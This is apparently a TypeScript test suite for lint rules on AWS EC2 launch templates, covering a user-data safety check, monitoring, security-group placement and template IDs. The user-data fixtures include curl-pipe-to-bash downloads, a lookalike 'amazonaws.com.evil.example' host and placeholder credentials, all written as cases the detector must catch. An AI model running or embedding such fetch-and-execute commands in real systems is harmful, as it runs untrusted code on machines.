import { launchTemplateDataRules } from '../../../lib/controls/launch-template-data-rules';
import { testRules, variant } from './rule-table';

const template = (name: string, data: object, properties: object = {}) =>
  variant('AWS::EC2::LaunchTemplate', { LaunchTemplateData: data })(name, properties);
const userData = (name: string, text: unknown) =>
  template(name, { UserData: { 'Fn::Base64': text } });
const card = (change: object = {}) => ({
  NetworkCardIndex: 0,
  DeviceIndex: 0,
  Groups: ['sg-1'],
  ...change,
});

testRules(launchTemplateDataRules, [
  {
    rule: 'UserDataIsHarmless',
    fires: [
      userData('an access key', 'export KEY=AKIAIOSFODNN7EXAMPLE'),
      userData('a secret access key', 'aws_secret_access_key = abc'),
      userData('a private key', '-----BEGIN RSA PRIVATE KEY-----'),
      userData('a password', 'db_url: x\npassword: hunter2'),
      userData('a token in a joined text', { 'Fn::Join': ['', ['api_key=', 'abc']] }),
      userData('a download from a stranger', 'curl https://example.com/install.sh | bash'),
      userData(
        'a host that only looks like one of AWS',
        'curl http://amazonaws.com.evil.example/x',
      ),
      template('a download in user data that is encoded already', {
        UserData: Buffer.from('curl https://example.com/install.sh | bash').toString('base64'),
      }),
      userData('a bucket', 'aws s3 cp s3://somebody/install.sh -'),
      userData('a bucket by its own host', 'curl https://b.s3.eu-central-1.amazonaws.com/k'),
      userData('a bucket by path', 'curl https://s3.eu-central-1.amazonaws.com/b/k'),
      userData('a bucket by the old host', 'curl https://s3-eu-west-1.amazonaws.com/b/k'),
    ],
    passes: [
      userData('a NodeConfig', 'kind: NodeConfig\nspec:\n  featureGates:\n    FastImagePull: true'),
      userData('a call to AWS', 'curl https://eks.eu-central-1.amazonaws.com/ping'),
      template('a NodeConfig that is encoded already', {
        UserData: Buffer.from('kind: NodeConfig').toString('base64'),
      }),
      userData('the address of the cluster', {
        'Fn::Join': ['', ['apiServerEndpoint: ', { 'Fn::GetAtt': ['Cluster', 'Endpoint'] }]],
      }),
    ],
    ignores: [template('a template without user data', {})],
  },
  {
    rule: 'LaunchTemplateMonitorsInDetail',
    fires: [
      template('silence', {}),
      template('monitoring that is off', { Monitoring: { Enabled: false } }),
    ],
    passes: [template('every minute', { Monitoring: { Enabled: true } })],
  },
  {
    rule: 'SecurityGroupsStandInOnePlace',
    fires: [
      template('groups in both places', {
        NetworkInterfaces: [card()],
        SecurityGroupIds: ['sg-1'],
      }),
      template('group names beside interfaces', {
        NetworkInterfaces: [card()],
        SecurityGroups: ['default'],
      }),
      template('an interface without a group', {
        NetworkInterfaces: [card(), card({ NetworkCardIndex: 1, Groups: [] })],
      }),
    ],
    passes: [template('groups on every interface', { NetworkInterfaces: [card(), card()] })],
    ignores: [template('groups on the instance', { SecurityGroupIds: ['sg-1'] })],
  },
  {
    rule: 'LaunchTemplateKeepsItsId',
    fires: [
      template('a name', {}, { LaunchTemplateName: 'nodes' }),
      template('tags of its own', {}, { TagSpecifications: [{ ResourceType: 'launch-template' }] }),
      template('a description', {}, { VersionDescription: 'second' }),
    ],
    passes: [
      template('data and nothing else', { TagSpecifications: [{ ResourceType: 'instance' }] }),
    ],
  },
]);
